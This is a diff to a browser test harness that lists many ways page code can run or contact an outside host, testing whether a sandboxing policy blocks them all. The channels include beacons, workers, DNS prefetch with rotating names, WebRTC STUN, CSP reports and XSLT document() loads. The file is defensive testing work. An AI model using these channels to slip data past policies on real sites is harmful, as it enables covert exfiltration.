@@ -3,7 +3,7 @@
 // nothing of it may come to anything, and in a browser without any policy, where each of it
 // must, save what is called idle: an attack that works nowhere would prove nothing.
 //
-// An attack is called with the address of a listener of its own. Code that runs calls `ran`.
+// An attack is called with the address of a host of its own. Code that runs calls `ran`.
 (() => {
   const ran = new Set();
   window.ran = (name) => ran.add(name);
@@ -42,6 +42,17 @@
     element.textContent = "bait";
     element.style.cssText = "position: fixed; inset: 0; z-index: 9999; background: white";
   };
+  // Again and again for two seconds, each time with another name of the same host: an engine
+  // looks no name up twice, and WebKit none in its first second.
+  const again = (to, ask) => {
+    const timer = setInterval(() => {
+      const time = Math.round(performance.now());
+      ask(to.replace(/\/\/(?=host)/, `//at${time}.`));
+    }, 150);
+    setTimeout(() => clearInterval(timer), 2000);
+  };
+  const lookUp = (href, parent) => add("link", { rel: "dns-prefetch", href }, parent);
+  const xml = (text) => new DOMParser().parseFromString(text, "text/xml");
   const GeneratorFunction = Object.getPrototypeOf(function* () {}).constructor;
   const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;
 
@@ -81,7 +92,8 @@
     "data: frame": (name) => add("iframe", { src: data(html(name), "text/html") }),
     "blob: frame": (name) => add("iframe", { src: blob(html(name), "text/html") }),
     "data: object": (name) => add("object", { data: data(html(name), "text/html") }),
-    "blob: embed": (name) => add("embed", { src: blob(html(name), "text/html"), type: "text/html" }),
+    "blob: embed": (name) =>
+      add("embed", { src: blob(html(name), "text/html"), type: "text/html" }),
     "blob: page": (name) => location.assign(blob(html(name), "text/html")),
     "script in a window of its own": (name) => {
       bait(add("button"));
@@ -110,14 +122,16 @@
     beacon: (to) => navigator.sendBeacon(to, "x"),
     "import of a worker": (to) => worker(Worker, js(`importScripts("${to}/x.js")`)),
     "fetch of a worker": (to) => worker(Worker, js(`fetch("${to}", { mode: "no-cors" })`)),
-    "worklet elsewhere": (to) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${to}/x.js`),
+    "worklet elsewhere": (to) =>
+      new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${to}/x.js`),
     image: (to) => {
       new Image().src = `${to}/x.png`;
     },
     "image in a frame": (to) => add("img", { src: `${to}/x.png` }, blank().document.body),
     "image of a set": (to) => markup(`<picture><source srcset="${to}/x.png"><img></picture>`),
     "image of a field": (to) => add("input", { type: "image", src: `${to}/x.png` }),
-    "image in a drawing": (to) => markup(`<svg><image href="${to}/x.png" width="9" height="9"/></svg>`),
+    "image in a drawing": (to) =>
+      markup(`<svg><image href="${to}/x.png" width="9" height="9"/></svg>`),
     "image under another base": (to) => {
       add("base", { href: to }, document.head);
       const image = new Image();
@@ -144,14 +158,57 @@
     embed: (to) => add("embed", { src: `${to}/x.html`, type: "text/html" }),
     frame: (to) => add("iframe", { src: `${to}/x.html` }),
     preconnect: (to) => add("link", { rel: "preconnect", href: to }, document.head),
-    preload: (to) => add("link", { rel: "preload", as: "fetch", href: to, crossorigin: "" }, document.head),
-    "preload of a module": (to) => add("link", { rel: "modulepreload", href: `${to}/x.js` }, document.head),
+    preload: (to) =>
+      add("link", { rel: "preload", as: "fetch", href: to, crossorigin: "" }, document.head),
+    "preload of a module": (to) =>
+      add("link", { rel: "modulepreload", href: `${to}/x.js` }, document.head),
+  };
+
+  // Ask a name server, and nobody else.
+  const asking = {
+    "lookup of a host": (to) => again(to, (to) => lookUp(to, document.head)),
+    "lookup by markup": (to) => again(to, (to) => markup(`<link rel="dns-prefetch" href="${to}">`)),
+    "lookup in a frame": (to) => again(to, (to) => lookUp(to, blank().document.head)),
+    "lookup without a scheme": (to) =>
+      again(to, (to) => lookUp(to.replace("http:", ""), document.head)),
   };
 
   // What this engine does not do today, wherever it is asked. Other versions may.
   const idle = {
+    "lookup of a link": (to) => {
+      add("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head);
+      again(to, (to) => link({ href: to }));
+    },
+    "peer connection": (to) => {
+      const { hostname } = new URL(to);
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${hostname}:3478` }] });
+      peer.createDataChannel("x");
+      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+    },
+    WebTransport: (to) => new WebTransport(to.replace("http:", "https:")),
+    "speculation rules": (to) => {
+      const urls = [`${to}/x.html`];
+      const rules = JSON.stringify({ prefetch: [{ source: "list", urls }] });
+      add("script", { type: "speculationrules" }).append(rules);
+    },
+    "icon of the page": (to) => add("link", { rel: "icon", href: `${to}/x.png` }, document.head),
+    "manifest of an app": (to) =>
+      add("link", { rel: "manifest", href: `${to}/x.json` }, document.head),
+    "report of a violation": (to) => {
+      const content = `img-src 'none'; report-uri ${to}/x; report-to ${to}/x`;
+      add("meta", { "http-equiv": "Content-Security-Policy", content }, document.head);
+      new Image().src = "/x.png";
+    },
+    "definition of a document type": (to) => xml(`<!DOCTYPE x SYSTEM "${to}/x.dtd"><x/>`),
+    "document of a transformation": (to) => {
+      const processor = new XSLTProcessor();
+      const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+        <xsl:template match="/"><x><xsl:copy-of select="document('${to}/x.xml')"/></x></xsl:template>
+        </xsl:stylesheet>`;
+      processor.importStylesheet(xml(sheet));
+      processor.transformToFragment(xml("<x/>"), document);
+    },
     prefetch: (to) => add("link", { rel: "prefetch", href: to }, document.head),
-    "lookup of a host": (to) => add("link", { rel: "dns-prefetch", href: to }, document.head),
     "part of a drawing": (to) => markup(`<svg><use href="${to}/x.svg#x"/></svg>`),
   };
 
@@ -164,7 +221,8 @@
     "address of a frame": (to) => {
       blank().location = to;
     },
-    refresh: (to) => add("meta", { "http-equiv": "refresh", content: `0; url=${to}` }, document.head),
+    refresh: (to) =>
+      add("meta", { "http-equiv": "refresh", content: `0; url=${to}` }, document.head),
     link: (to) => link({ href: to }).click(),
     "link with a ping": (to) => link({ href: "#", ping: to }).click(),
     "form that asks": (to) => add("form", { action: to }).submit(),
@@ -188,17 +246,25 @@
 
   window.attacks = {
     running: Object.keys(running),
-    reaching: [...Object.keys(speaking), ...Object.keys(leading)],
+    speaking: Object.keys(speaking),
+    asking: Object.keys(asking),
+    leading: Object.keys(leading),
     idle: Object.keys(idle),
     ran: () => [...ran],
-    // Answers whether something is there now for a person to click.
-    async begin(name, address) {
+    // Tries it with each of the addresses. Answers whether something is there now for a person
+    // to click, which only the last can be.
+    async begin(name, addresses) {
       document.getElementById("bait")?.remove();
-      const attack = running[name] ?? speaking[name] ?? leading[name] ?? idle[name];
-      try {
-        await attack(running[name] ? name : address);
-      } catch {
-        // Refused in so many words, which is as well.
+      const reaching = { ...speaking, ...asking, ...leading, ...idle };
+      const tries = running[name]
+        ? [() => running[name](name)]
+        : addresses.map((to) => () => reaching[name](to));
+      for (const attempt of tries) {
+        try {
+          await attempt();
+        } catch {
+          // Refused in so many words, which is as well.
+        }
       }
       return document.getElementById("bait") !== null;
     },
